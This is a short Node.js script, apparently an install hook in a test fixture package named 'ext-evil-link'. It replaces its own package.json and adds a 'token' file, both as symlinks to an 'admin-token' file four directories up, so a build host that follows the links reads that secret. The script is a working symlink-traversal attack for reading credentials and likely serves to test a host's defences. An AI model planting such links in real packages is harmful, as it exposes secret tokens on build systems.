'use strict';
// From <work>/prefix/node_modules/ext-evil-link/ four levels up is the directory holding the
// build's work directory: a host that follows the link reads the file planted there.
const fs = require('fs');
const path = require('path');
const target = '../../../../admin-token';
fs.symlinkSync(target, path.join(__dirname, 'token'));
fs.unlinkSync(path.join(__dirname, 'package.json'));
fs.symlinkSync(target, path.join(__dirname, 'package.json'));
console.log('ext-evil-link: package.json -> ' + target);
